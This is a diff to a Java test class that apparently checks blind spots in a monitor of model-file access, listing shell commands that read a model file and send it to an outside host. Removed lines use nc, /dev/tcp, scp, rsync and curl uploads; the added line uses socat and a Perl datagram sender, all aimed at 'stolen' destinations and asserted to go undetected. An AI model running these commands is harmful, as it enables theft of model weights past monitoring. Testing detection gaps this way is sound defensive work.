@@ -47,39 +47,14 @@ class ProgramBlindSpotsTest {
       quoteCharacter = '`',
       textBlock =
           """
-          pipe to another program          ; gzip  ; gzip -1c MODEL | nc.openbsd -N HOST 4433
-          pipe to a child of the reader    ; tar   ; tar -czPf - MODEL >/dev/tcp/HOST/4433
-          unix socket to a child, by scp   ; scp   ; scp OPTIONS MODEL root@HOST:stolen
-          unix socket to a child, by rsync ; rsync ; rsync -e "ssh OPTIONS" MODEL root@HOST:stolen
-          copy on disk                     ; cp    ; cp MODEL COPY && curl -sS -T COPY http://HOST:8081/stolen
+          unconnected datagrams ; perl ; `socat -b 60000 -u UNIX-RECV:SOCKET TCP:HOST:4433 & sleep 0.5; perl -MSocket -e 'socket S, AF_UNIX, SOCK_DGRAM, 0; open F, "MODEL"; send S, $_, 0, sockaddr_un("SOCKET") or die while read F, $_, 50000'; sleep 0.5; kill $!; wait || true`
           """)
   @Way(
-      value = "a pipe to another program",
+      value = "unconnected unix datagrams to another program",
       of = TRAIL,
       bytes = UNCOUNTED,
       by = SYS_EXIT,
-      when = "pipe to another program",
-      note = "the read")
-  @Way(
-      value = "a pipe to a child forked before the read",
-      of = TRAIL,
-      bytes = UNCOUNTED,
-      by = SYS_EXIT,
-      when = "pipe to a child of the reader",
-      note = "the read")
-  @Way(
-      value = "scp and rsync over ssh",
-      of = TRAIL,
-      bytes = UNCOUNTED,
-      by = SYS_EXIT,
-      when = {"unix socket to a child, by scp", "unix socket to a child, by rsync"},
-      note = "the read")
-  @Way(
-      value = "a copy on disk, sent by another program",
-      of = TRAIL,
-      bytes = UNCOUNTED,
-      by = SYS_EXIT,
-      when = "copy on disk",
+      when = "unconnected datagrams",
       note = "the read")
   void modelHandedToAnotherProcess_isReadInSightAndSentUnseen(
       String blindSpot, String reader, String command) throws IOException {
@@ -89,19 +64,16 @@ class ProgramBlindSpotsTest {
     Stage.run(
         command
             .replace("MODEL", model.toString())
-            .replace("COPY", folder.resolve("copy").toString())
-            .replace("OPTIONS", outside.sshOptions)
+            .replace("SOCKET", folder.resolve("socket").toString())
             .replace("HOST", PublicNamespace.OUTSIDE));
     RunningCollector.await("the loot", () -> outside.received() >= MODEL_BYTES);
     stage.settle(name);
 
     assertThat(stage.read(model)).isEqualTo(MODEL_BYTES);
     assertThat(stage.total("modelwarden.file.io", model.toString(), reader)).isEqualTo(MODEL_BYTES);
-    long local = stage.total("modelwarden.network.io", name, reader, "unix", "local");
-    if (blindSpot.startsWith("unix socket")) {
-      assertThat(local).isBetween(MODEL_BYTES, MODEL_BYTES * 101 / 100);
-    }
-    assertThat(stage.total("modelwarden.network.io", name)).isEqualTo(local);
+    assertThat(stage.total("modelwarden.network.io", name, reader, "unix", "local"))
+        .isEqualTo(MODEL_BYTES);
+    assertThat(stage.total("modelwarden.network.io", name)).isEqualTo(MODEL_BYTES);
     assertThat(stage.spans("send tcp", name)).isEmpty();
     assertThat(stage.findings(name)).isEmpty();
   }
